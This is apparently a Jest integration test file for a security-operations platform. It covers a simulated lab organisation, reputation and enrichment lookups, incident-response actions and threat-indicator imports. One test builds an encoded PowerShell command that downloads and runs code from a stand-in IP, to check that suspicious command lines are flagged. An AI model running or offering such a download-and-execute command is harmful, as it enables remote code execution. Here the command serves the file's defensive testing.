import { randomBytes } from 'node:crypto';
import { CatalogInputError, CatalogService } from '../../src/catalog/catalog.service.js';
import { type ConnectorRequest, PermanentConnectorError } from '../../src/connectors/connector.js';
import type { Entity } from '../../src/domain/alert.js';
import { LabConnector } from '../../src/lab/lab-connector.js';
import { LAB_DEMO as D, seedLab } from '../../src/lab/lab-seed.js';
import { startQuell, type TestQuell } from '../support/harness.js';

const actionId = () => `act-${randomBytes(12).toString('hex')}`;

describe('the lab connector, its estate, the enrichment catalog and the indicators API', () => {
  let q: TestQuell;
  let catalog: CatalogService;
  let lab: LabConnector;
  let reader: { Authorization: string };
  let analyst: { Authorization: string };

  beforeAll(async () => {
    q = await startQuell();
    catalog = new CatalogService(q.db);
    lab = new LabConnector(q.db);
    [reader, analyst] = await Promise.all([q.auth('reader'), q.auth('analyst')]);
  });
  afterAll(() => q.close());
  // Every test starts from the seeded organisation: seeding resets what earlier tests changed.
  beforeEach(() => seedLab(q.db));

  const run = (
    type: string,
    target: Entity,
    params: Record<string, unknown> = {},
    id = actionId(),
    operation: ConnectorRequest['operation'] = 'execute',
  ) => lab.execute({ actionId: id, operation, type, target, params });
  const count = async (sql: string, params: unknown[] = []) =>
    Number((await q.db.query(`SELECT count(*)::int AS n FROM ${sql}`, params))[0].n);

  describe('seed', () => {
    it('builds the Contoso organisation idempotently, through the API as the demo does', async () => {
      await q.http
        .post('/api/v1/lab/seed')
        .set(await q.auth('analyst'))
        .expect(403);
      const again = (
        await q.http
          .post('/api/v1/lab/seed')
          .set(await q.auth('admin'))
          .expect(200)
      ).body.seeded;
      expect(again).toMatchObject({
        users: 12,
        devices: 10,
        mailboxes: 11,
        files: expect.any(Number),
        messages: expect.any(Number),
        indicators: 7,
      });
      expect(again.messages).toBeGreaterThanOrEqual(25);
      expect(await count('lab_users')).toBe(12);
      expect(await count('lab_messages')).toBe(again.messages);
      expect(await count('lab_signins')).toBe(again.signins);
      expect(await count('indicators WHERE source = $1', ['quell-lab'])).toBe(7);
      expect(
        (await q.db.query('SELECT DISTINCT device_group FROM lab_devices ORDER BY 1')).map((r: { device_group: string }) => r.device_group),
      ).toEqual(['Default', 'Engineering', 'Finance', 'Servers']);
    });
  });

  describe('enrichment catalog', () => {
    it('device.info by host name (any case, FQDN) or device id, and for an unknown device', async () => {
      const ws = await catalog.run('device.info', { device: 'WS-03.contoso.local' });
      expect(ws).toMatchObject({
        found: true,
        deviceId: D.victimDeviceId,
        hostname: 'ws-03',
        deviceGroup: 'Default',
        isolated: false,
        restricted: false,
        risk: 'high',
      });
      expect(ws.loggedOnUsers).toContain(D.victimUpn);
      expect(await catalog.run('device.info', { device: 'dev-srv-01' })).toMatchObject({
        found: true,
        hostname: D.serverHost,
        deviceGroup: 'Servers',
      });
      expect(await catalog.run('device.info', { device: 'nowhere-99' })).toMatchObject({
        found: false,
        hostname: 'nowhere-99',
        isolated: false,
        loggedOnUsers: [],
      });
    });

    it('file.reputation: verdict from intel and prevalence across devices', async () => {
      expect(await catalog.run('file.reputation', { sha256: D.maliciousSha256.toUpperCase() })).toMatchObject({
        verdict: 'malicious',
        source: 'quell-lab',
        prevalence: 2,
        devices: D.maliciousFileHosts,
      });
      expect(await catalog.run('file.reputation', { sha256: D.cleanSha256 })).toMatchObject({ verdict: 'clean', prevalence: 9 });
      expect(await catalog.run('file.reputation', { sha256: 'ab'.repeat(32) })).toMatchObject({
        verdict: 'unknown',
        source: null,
        prevalence: 0,
        devices: [],
      });
      await expect(catalog.run('file.reputation', { sha256: 'xyz' })).rejects.toThrow(CatalogInputError);
    });

    it('url.reputation: the URL itself (scheme and case do not matter), then its domain', async () => {
      const variant = D.phishingUrl.replace('https://login.', 'http://LOGIN.') + '#top';
      expect(await catalog.run('url.reputation', { url: variant })).toMatchObject({
        verdict: 'malicious',
        matchedBy: 'url',
        domain: 'login.contoso-helpdesk.com',
      });
      expect(await catalog.run('url.reputation', { url: 'https://files.contoso-helpdesk.com/other.zip' })).toMatchObject({
        verdict: 'malicious',
        matchedBy: 'domain',
        matched: D.phishingDomain,
      });
      expect(await catalog.run('url.reputation', { url: `http://${D.maliciousIp}/a.ps1` })).toMatchObject({
        verdict: 'malicious',
        matchedBy: 'ip',
      });
      expect(await catalog.run('url.reputation', { url: 'https://www.example.org/' })).toMatchObject({
        verdict: 'unknown',
        source: null,
        domain: 'www.example.org',
      });
    });

    it('ip.reputation and domain.reputation', async () => {
      expect(await catalog.run('ip.reputation', { ip: `::ffff:${D.maliciousIp}` })).toMatchObject({
        ip: D.maliciousIp,
        verdict: 'malicious',
        source: 'quell-lab',
      });
      expect(await catalog.run('ip.reputation', { ip: D.suspiciousIp })).toMatchObject({ verdict: 'suspicious' });
      expect(await catalog.run('ip.reputation', { ip: '8.8.8.8' })).toMatchObject({ verdict: 'unknown' });
      await expect(catalog.run('ip.reputation', { ip: '300.1.1.1' })).rejects.toThrow(CatalogInputError);
      expect(await catalog.run('domain.reputation', { domain: 'www.Update-CDN-Cloud.net.' })).toMatchObject({
        domain: 'www.update-cdn-cloud.net',
        verdict: 'malicious',
      });
      expect(await catalog.run('domain.reputation', { domain: 'fabrikam.com' })).toMatchObject({ verdict: 'unknown' });
    });

    it('user.info by UPN, Entra object id or SID', async () => {
      const admin = await catalog.run('user.info', { user: D.adminUpn.toUpperCase() });
      expect(admin).toMatchObject({ found: true, upn: D.adminUpn, enabled: true, isAdmin: true, compromised: false });
      expect(admin.groups).toContain('Domain Admins');
      expect(await catalog.run('user.info', { user: String(admin.aadObjectId) })).toMatchObject({ upn: D.adminUpn });
      expect(await catalog.run('user.info', { user: String(admin.sid).toLowerCase() })).toMatchObject({ upn: D.adminUpn });
      expect(await catalog.run('user.info', { user: D.compromisedUser })).toMatchObject({ risk: 'high', isAdmin: false });
      expect(await catalog.run('user.info', { user: D.financeUpns[0] })).toMatchObject({ groups: expect.arrayContaining(['Finance']) });
      expect(await catalog.run('user.info', { user: 'ghost@contoso.com' })).toMatchObject({ found: false, upn: null, compromised: false });
    });

    it('user.signins: impossible travel for the taken-over account, none for an ordinary one', async () => {
      const alex = await catalog.run('user.signins', { user: D.compromisedUser, hours: 48 });
      expect(alex).toMatchObject({ impossibleTravel: true, countries: expect.arrayContaining(['US', 'RU']) });
      expect(alex.failed).toBeGreaterThanOrEqual(2);
      expect(alex.travel).toMatchObject({ from: { country: 'US' }, to: { country: 'RU' } });
      expect((alex.travel as { minutes: number }).minutes).toBeLessThan(60);
      const megan = await catalog.run('user.signins', { user: D.victimUpn });
      expect(megan).toMatchObject({ impossibleTravel: false, countries: ['US'], travel: null });
      expect(megan.succeeded).toBeGreaterThan(0);
      expect(await catalog.run('user.signins', { user: D.victimUpn, hours: 1 })).toMatchObject({ total: 0, signins: [] });
    });

    it('email.similar by message, sender, subject, URL and attachment', async () => {
      const others = D.phishMailboxes.filter((m) => m !== D.victimUpn).sort();
      expect(await catalog.run('email.similar', { networkMessageId: D.phishMessageId })).toMatchObject({
        found: true,
        count: 4,
        mailboxes: others,
      });
      expect(await catalog.run('email.similar', { sender: D.phishSender.toUpperCase() })).toMatchObject({ count: 5 });
      expect(await catalog.run('email.similar', { sender: D.phishSender, subject: D.phishSubject })).toMatchObject({ count: 5 });
      const byUrl = await catalog.run('email.similar', { url: D.phishingUrl.replace('https', 'http') });
      expect(byUrl.count).toBe(5);
      expect((byUrl.messages as { deleted: boolean }[]).every((m) => m.deleted === false)).toBe(true);
      expect(await catalog.run('email.similar', { attachmentSha256: D.maliciousSha256 })).toMatchObject({
        count: 1,
        mailboxes: [D.victimUpn],
      });
      expect(await catalog.run('email.similar', { networkMessageId: 'no-such-message' })).toMatchObject({ found: false, count: 0 });
      await expect(catalog.run('email.similar', {})).rejects.toThrow(CatalogInputError);
    });

    it('alerts.related by correlation key within the window', async () => {
      // Stored as already dispatched: the undispatched-alert relay must not correlate these fixtures.
      const [alert] = await q.db.query(
        `INSERT INTO alerts (source, external_id, title, type, severity, first_activity_at, last_activity_at, dispatched_at)
         VALUES ('endpoint', $1, 'Related alert', 'x', 'high', now() - interval '2 days', now(), now()) RETURNING id`,
        [actionId()],
      );
      const [old] = await q.db.query(
        `INSERT INTO alerts (source, external_id, title, type, severity, first_activity_at, last_activity_at, dispatched_at)
         VALUES ('endpoint', $1, 'Old alert', 'x', 'low', now() - interval '20 days', now() - interval '20 days', now()) RETURNING id`,
        [actionId()],
      );
      await q.db.query(
        `INSERT INTO alert_keys (key, activity_at, alert_id) VALUES ('device:host:ws-05', now() - interval '2 days', $1), ('device:host:ws-05', now() - interval '20 days', $2)`,
        [alert.id, old.id],
      );
      const week = await catalog.run('alerts.related', { key: 'device:host:ws-05', days: 7 });
      expect(week).toMatchObject({ count: 1, alerts: [{ id: alert.id, title: 'Related alert', severity: 'high', incidentId: null }] });
      expect(await catalog.run('alerts.related', { key: 'device:host:ws-05', days: 30 })).toMatchObject({ count: 2 });
      expect(await catalog.run('alerts.related', { key: 'device:host:nothing' })).toMatchObject({ count: 0, alerts: [] });
      // The alert under investigation is not "another" alert about the entity.
      expect(await catalog.run('alerts.related', { key: 'device:host:ws-05', days: 30, excludeAlert: alert.id })).toMatchObject({
        count: 1,
        alerts: [{ id: old.id }],
      });
      expect(await catalog.run('alerts.related', { key: 'device:host:ws-05', days: 30, excludeAlert: '' })).toMatchObject({ count: 2 });
      await expect(catalog.run('alerts.related', { key: 'device:host:ws-05', excludeAlert: 'x'.repeat(129) })).rejects.toThrow(
        CatalogInputError,
      );
    });

    it('process.details, and rejects bad arguments and unknown functions', async () => {
      const encoded = Buffer.from("IEX (iwr 'http://203.0.113.66/a')", 'utf16le').toString('base64');
      expect(await catalog.run('process.details', { commandLine: `powershell -enc ${encoded}` })).toMatchObject({
        encoded: true,
        suspicious: true,
      });
      await expect(catalog.run('device.info', { device: '' })).rejects.toThrow(/device\.info: device/);
      await expect(catalog.run('user.signins', { user: 'x', hours: 0 })).rejects.toThrow(CatalogInputError);
      await expect(catalog.run('no.such' as 'device.info', {})).rejects.toThrow(CatalogInputError);
    });
  });

  describe('connector', () => {
    const device = (hostname: string): Entity => ({ type: 'device', hostname });

    it('isolates and releases a device, visible through GET /api/v1/lab/devices', async () => {
      const id = actionId();
      const isolated = await run('isolate_device', device('WS-02.contoso.local'), {}, id);
      expect(isolated).toEqual({ details: { device: 'ws-02', isolated: true }, replayed: false });
      const state = async () =>
        (await q.http.get('/api/v1/lab/devices').set(reader).expect(200)).body.items.find(
          (d: { hostname: string }) => d.hostname === 'ws-02',
        );
      expect(await state()).toMatchObject({ isolated: true, deviceGroup: 'Finance' });
      const released = await run('release_device', { type: 'device', deviceId: 'dev-ws-02' }, {}, id, 'undo');
      expect(released.details).toEqual({ device: 'ws-02', isolated: false });
      expect(await state()).toMatchObject({ isolated: false });
      const effects = (await q.http.get(`/api/v1/lab/effects?actionId=${id}`).set(reader).expect(200)).body.items;
      expect(effects.map((e: { operation: string; type: string }) => `${e.operation}:${e.type}`).sort()).toEqual([
        'execute:isolate_device',
        'undo:release_device',
      ]);
    });

    it('carries out an action id once: a repeat, even a concurrent one, replays the recorded details', async () => {
      const id = actionId();
      const first = await run('run_av_scan', device('ws-04'), {}, id);
      const again = await run('run_av_scan', device('ws-04'), {}, id);
      expect(first).toEqual({ details: { device: 'ws-04', avScans: 1 }, replayed: false });
      expect(again).toEqual({ details: first.details, replayed: true });
      expect(await count('lab_effects WHERE action_id = $1', [id])).toBe(1);
      expect((await q.db.query(`SELECT av_scans FROM lab_devices WHERE hostname = 'ws-04'`))[0].av_scans).toBe(1);

      const racing = actionId();
      const results = await Promise.all([1, 2, 3].map(() => run('collect_investigation_package', device('ws-04'), {}, racing)));
      expect(results.filter((r) => !r.replayed)).toHaveLength(1);
      expect((await q.db.query(`SELECT packages_collected FROM lab_devices WHERE hostname = 'ws-04'`))[0].packages_collected).toBe(1);
    });

    it('soft-deletes a whole campaign with scope cluster, and restores it on undo', async () => {
      const id = actionId();
      const email: Entity = { type: 'email', networkMessageId: D.phishMessageId };
      const done = await run('soft_delete_email', email, { scope: 'cluster' }, id);
      expect(done.details).toMatchObject({ scope: 'cluster', messagesDeleted: 5 });
      const campaign = async () =>
        (
          await q.http
            .get(`/api/v1/lab/messages?sender=${encodeURIComponent(D.phishSender)}`)
            .set(reader)
            .expect(200)
        ).body.items;
      expect((await campaign()).map((m: { deleted: boolean }) => m.deleted)).toEqual([true, true, true, true, true]);
      expect(await count('lab_messages WHERE deleted')).toBe(5);
      const undone = await run('restore_email', email, { scope: 'cluster' }, id, 'undo');
      expect(undone.details).toMatchObject({ messagesRestored: 5 });
      expect(await count('lab_messages WHERE deleted')).toBe(0);
      const single = await run('soft_delete_email', email);
      expect(single.details).toMatchObject({ scope: 'message', messagesDeleted: 1, mailboxes: [D.victimUpn] });
    });

    it('applies file, mailbox, identity and network actions', async () => {
      const file: Entity = { type: 'file', sha256: D.maliciousSha256 };
      expect((await run('stop_and_quarantine_file', file)).details).toMatchObject({
        files: 2,
        devices: D.maliciousFileHosts,
        quarantined: true,
      });
      expect((await run('restore_file', file, { deviceId: 'ws-05' })).details).toMatchObject({
        files: 1,
        devices: ['ws-05'],
        quarantined: false,
      });
      expect((await run('remove_persistence', device('ws-03'))).details).toMatchObject({ persistenceRemoved: 2 });
      expect(await count(`lab_persistence WHERE device_id = 'dev-ws-03' AND NOT removed`)).toBe(0);

      const box: Entity = { type: 'mailbox', address: D.compromisedUser };
      expect((await run('remove_inbox_rule', box, { rule: D.suspiciousInboxRule })).details).toEqual({
        mailbox: D.compromisedUser,
        rulesRemoved: [D.suspiciousInboxRule],
        rulesLeft: 1,
        recorded: {
          mailbox: D.compromisedUser,
          rules: [expect.objectContaining({ name: D.suspiciousInboxRule, actions: expect.any(Object) })],
        },
      });
      expect((await run('disable_external_forwarding', box)).details).toMatchObject({
        externalForwarding: null,
        previousForwarding: D.externalForwarding,
      });
      const [mailbox] = (await q.http.get('/api/v1/lab/mailboxes').set(reader).expect(200)).body.items.filter(
        (m: { address: string }) => m.address === D.compromisedUser,
      );
      expect(mailbox).toMatchObject({ externalForwarding: null, inboxRules: [{ name: 'Newsletters' }] });

      const [{ sid }] = await q.db.query('SELECT sid FROM lab_users WHERE upn = $1', [D.compromisedUser]);
      for (const type of ['disable_user', 'reset_password', 'revoke_sessions', 'mark_user_compromised'])
        await run(type, { type: 'user', sid });
      expect(await catalog.run('user.info', { user: D.compromisedUser })).toMatchObject({
        enabled: false,
        compromised: true,
        passwordResetAt: expect.any(String),
        sessionsRevokedAt: expect.any(String),
      });

      expect((await run('block_url', { type: 'url', url: D.phishingUrl })).details).toMatchObject({
        blocked: 'url',
        alreadyBlocked: false,
      });
      expect((await run('block_sender', { type: 'mailbox', address: D.phishSender })).details).toMatchObject({ value: D.phishSender });
      expect((await run('block_ip', { type: 'ip', address: D.maliciousIp })).details).toMatchObject({ value: D.maliciousIp });
      const blocks = (await q.http.get('/api/v1/lab/blocks').set(reader).expect(200)).body.items;
      expect(blocks.map((b: { kind: string }) => b.kind).sort()).toEqual(['ip', 'sender', 'url']);
      expect((await run('unblock_ip', { type: 'ip', address: `::ffff:${D.maliciousIp}` })).details).toMatchObject({ wasBlocked: true });
      await q.db.query('DELETE FROM lab_blocks');
    });

    it('fails permanently, leaving no ledger row, when the target is not in the lab or the action is unknown', async () => {
      const id = actionId();
      await expect(run('isolate_device', device('ghost-01'), {}, id)).rejects.toThrow(PermanentConnectorError);
      await expect(run('isolate_device', device('ghost-01'), {}, id)).rejects.toThrow(/ghost-01 does not exist in the lab/);
      expect(await count('lab_effects WHERE action_id = $1', [id])).toBe(0);
      await expect(run('disable_user', { type: 'user', upn: 'ghost@contoso.com' })).rejects.toThrow(PermanentConnectorError);
      await expect(run('soft_delete_email', { type: 'email', networkMessageId: 'nope' })).rejects.toThrow(PermanentConnectorError);
      await expect(run('quarantine_file', { type: 'file', sha256: 'cd'.repeat(32) })).rejects.toThrow(PermanentConnectorError);
      await expect(run('isolate_device', { type: 'user', upn: D.victimUpn })).rejects.toThrow(/needs a device target/);
      await expect(run('format_disk', device('ws-01'))).rejects.toThrow(PermanentConnectorError);
    });
  });

  describe('indicators API', () => {
    const post = (body: unknown, role = analyst) =>
      q.http
        .post('/api/v1/indicators')
        .set(role)
        .send(body as object);
    const list = async (query: string) => (await q.http.get(`/api/v1/indicators?${query}`).set(reader).expect(200)).body;

    it('creates (normalised, upserted), lists with filters and paging, and deletes', async () => {
      const one = await post({ type: 'domain', value: 'Bad-Domain.Example.', verdict: 'suspicious', description: 'seen in spam' }).expect(
        201,
      );
      expect(one.body.items).toEqual([
        expect.objectContaining({ type: 'domain', value: 'bad-domain.example', verdict: 'suspicious', source: 'manual' }),
      ]);
      const batch = await post([
        { type: 'ip', value: '::ffff:192.0.2.200', verdict: 'malicious', source: 'partner-feed' },
        { type: 'domain', value: 'bad-domain.example', verdict: 'malicious' },
        { type: 'url', value: 'HTTPS://Bad-Domain.example/Login/', verdict: 'malicious' },
      ]).expect(201);
      expect(batch.body.items).toHaveLength(3);
      expect(batch.body.items.find((i: { type: string }) => i.type === 'domain')).toMatchObject({
        id: one.body.items[0].id,
        verdict: 'malicious',
        description: 'seen in spam',
      });
      expect(batch.body.items.find((i: { type: string }) => i.type === 'url').value).toBe('bad-domain.example/Login');

      expect((await list('value=192.0.2.200')).items).toEqual([
        expect.objectContaining({ type: 'ip', value: '192.0.2.200', source: 'partner-feed' }),
      ]);
      expect((await list('type=domain&verdict=malicious')).items.map((i: { value: string }) => i.value)).toEqual(
        expect.arrayContaining(['bad-domain.example', D.phishingDomain]),
      );
      expect((await list('verdict=clean')).items).toHaveLength(1);

      const seen: string[] = [];
      let cursor: string | null = null;
      do {
        const page: { items: { id: string }[]; nextCursor: string | null } = await list(`limit=3${cursor ? `&cursor=${cursor}` : ''}`);
        seen.push(...page.items.map((i) => i.id));
        cursor = page.nextCursor;
      } while (cursor);
      expect(new Set(seen).size).toBe(seen.length);
      expect(seen.length).toBe(await count('indicators'));

      await q.http.delete(`/api/v1/indicators/${one.body.items[0].id}`).set(analyst).expect(200);
      await q.http.delete(`/api/v1/indicators/${one.body.items[0].id}`).set(analyst).expect(404);
      await q.http.delete('/api/v1/indicators/not-a-uuid').set(analyst).expect(400);
      expect(await catalog.run('domain.reputation', { domain: 'bad-domain.example' })).toMatchObject({ verdict: 'unknown' });
    });

    it('rejects invalid indicators with paths, and enforces roles', async () => {
      const bad = await post([
        { type: 'sha256', value: 'abc', verdict: 'malicious' },
        { type: 'ip', value: '10.0.0.300', verdict: 'malicious' },
        { type: 'domain', value: 'not a domain', verdict: 'malicious' },
        { type: 'url', value: 'https://ok.example', verdict: 'bad' },
      ]).expect(400);
      expect(bad.body.errors.map((e: { path: string }) => e.path)).toEqual(['[0].value', '[1].value', '[2].value', '[3].verdict']);
      await post({ type: 'md5', value: 'x', verdict: 'clean', extra: 1 }).expect(400);
      await q.http.get('/api/v1/indicators?type=hash').set(reader).expect(400);
      await q.http.get('/api/v1/indicators?cursor=bm9wZQ').set(reader).expect(400);
      await post({ type: 'ip', value: '192.0.2.1', verdict: 'clean' }, reader).expect(403);
      await q.http.post('/api/v1/indicators/import?format=csv').set(reader).send({ csv: 'type,value,verdict\n' }).expect(403);
      await q.http
        .delete(`/api/v1/indicators/${(await list('limit=1')).items[0].id}`)
        .set(reader)
        .expect(403);
      await q.http.get('/api/v1/lab/devices').expect(401);
    });

    it('imports a STIX 2.1 bundle: hashes, URLs, IPs and domains, verdicts from indicator types', async () => {
      const sha256 = `EF${'e'.repeat(62)}`;
      const bundle = {
        type: 'bundle',
        id: 'bundle--1',
        objects: [
          { type: 'identity', id: 'identity--acme', name: 'ACME CERT' },
          {
            type: 'indicator',
            id: 'indicator--1',
            created_by_ref: 'identity--acme',
            name: 'Dropper',
            indicator_types: ['malicious-activity'],
            pattern: `[file:hashes.'SHA-256' = '${sha256}']`,
            pattern_type: 'stix',
          },
          {
            type: 'indicator',
            id: 'indicator--2',
            labels: ['anomalous-activity'],
            pattern: "[url:value = 'http://stix.example/landing']",
            pattern_type: 'stix',
          },
          {
            type: 'indicator',
            id: 'indicator--3',
            pattern: "[ipv4-addr:value = '198.51.100.77' OR domain-name:value = 'stix-c2.example']",
            pattern_type: 'stix',
          },
          {
            type: 'indicator',
            id: 'indicator--4',
            indicator_types: ['benign'],
            pattern: "[domain-name:value = 'good.example']",
            pattern_type: 'stix',
          },
          { type: 'indicator', id: 'indicator--5', pattern: "[ipv4-addr:value = '999.1.1.1']", pattern_type: 'stix' },
          { type: 'indicator', id: 'indicator--6', pattern: "[process:name = 'evil.exe']", pattern_type: 'stix' },
          { type: 'malware', id: 'malware--1', name: 'Demo' },
        ],
      };
      const res = await q.http.post('/api/v1/indicators/import?format=stix').set(analyst).send(bundle).expect(200);
      expect(res.body).toEqual({ imported: 5, skipped: 3, errors: [{ index: 5, message: expect.stringContaining('IPv4 or IPv6') }] });
      expect(await catalog.run('file.reputation', { sha256 })).toMatchObject({ verdict: 'malicious', source: 'ACME CERT' });
      expect(await catalog.run('url.reputation', { url: 'https://stix.example/landing' })).toMatchObject({
        verdict: 'suspicious',
        source: 'stix',
      });
      expect(await catalog.run('ip.reputation', { ip: '198.51.100.77' })).toMatchObject({ verdict: 'malicious' });
      expect(await catalog.run('domain.reputation', { domain: 'stix-c2.example' })).toMatchObject({ verdict: 'malicious' });
      expect(await catalog.run('domain.reputation', { domain: 'good.example' })).toMatchObject({ verdict: 'clean' });

      const notBundle = await q.http
        .post('/api/v1/indicators/import?format=stix')
        .set(analyst)
        .send({ type: 'report', objects: 'x' })
        .expect(400);
      expect(notBundle.body.errors.map((e: { path: string }) => e.path)).toEqual(expect.arrayContaining(['type', 'objects']));
      await q.http.post('/api/v1/indicators/import?format=xml').set(analyst).send(bundle).expect(400);
      await q.http.post('/api/v1/indicators/import').set(analyst).send(bundle).expect(400);
    });

    it('imports CSV sent inside JSON, reporting the bad line and storing the rest', async () => {
      const csv = [
        'type,value,verdict,source,description',
        'sha1,' + 'AB'.repeat(20) + ',malicious,feed-x,"Loader, stage 2"',
        'ip,not-an-ip,malicious,,',
        'domain,csv-bad.example,suspicious,,"multi',
        'line"',
        '',
        'url,https://csv-bad.example/x,malicious',
      ].join('\r\n');
      const res = await q.http.post('/api/v1/indicators/import?format=csv').set(analyst).send({ csv }).expect(200);
      expect(res.body).toEqual({ imported: 3, skipped: 0, errors: [{ line: 3, message: expect.stringContaining('value') }] });
      const [sha1] = (await list('type=sha1')).items;
      expect(sha1).toMatchObject({ value: 'ab'.repeat(20), source: 'feed-x', description: 'Loader, stage 2' });
      expect((await list('value=csv-bad.example&type=domain')).items[0]).toMatchObject({ source: 'csv', description: 'multi\r\nline' });

      const header = await q.http
        .post('/api/v1/indicators/import?format=csv')
        .set(analyst)
        .send({ csv: 'kind,value\nip,1.2.3.4' })
        .expect(400);
      expect(header.body.errors).toEqual([{ path: 'csv', message: expect.stringContaining('missing type, verdict') }]);
      await q.http.post('/api/v1/indicators/import?format=csv').set(analyst).send({ text: 'x' }).expect(400);
      await q.http
        .post('/api/v1/indicators/import?format=csv')
        .set(analyst)
        .set('Content-Type', 'text/csv')
        .send('type,value,verdict')
        .expect(415);
    });
  });
});
